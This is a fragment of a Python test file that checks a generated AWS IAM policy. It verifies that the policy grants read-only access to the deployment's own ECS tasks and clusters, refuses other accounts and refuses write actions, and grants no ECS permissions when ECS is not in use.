    assert ecs_actions == ECS_READS
    task, service = f"{ECS_ARN}:task/apps/0123456789abcdef", f"{ECS_ARN}:service/apps/web"
    for action in ("ecs:DescribeTasks", "ecs:ListTagsForResource"):
        assert allowing_statement(deployment.policy, action, task, {}) == "ReadTheTagsOfTasksAndTheirServices"
        other_account = task.replace(DEFAULT_ACCOUNT_ID, "210987654321")
        assert allowing_statement(deployment.policy, action, other_account, {}) is None
    assert allowing_statement(deployment.policy, "ecs:ListTagsForResource", service, {})
    # Nothing of ECS may be changed, tags included.
    for action in ("ecs:StopTask", "ecs:TagResource", "ecs:UpdateService"):
        assert allowing_statement(deployment.policy, action, task, {}) is None
    ours = {"ecs:cluster": [f"{ECS_ARN}:cluster/apps"]}
    assert allowing_statement(deployment.policy, "ecs:ListTasks", "*", ours) == "ListTheClustersTasks"
    theirs = {"ecs:cluster": ["arn:aws:ecs:eu-west-1:210987654321:cluster/apps"]}
    assert allowing_statement(deployment.policy, "ecs:ListTasks", "*", theirs) is None


def test_without_ecs_the_policy_grants_nothing_of_ecs(deployment):
    facts = deployment.facts
    policy = render_policy(
        Facts(NAME, facts.vpc_id, REGION, DEFAULT_ACCOUNT_ID, facts.zones, AMI, facts.instance_role_arn, overrides={})
    )
    assert not [a for s in policy["Statement"] for a in s["Action"] if a.startswith("ecs:")]
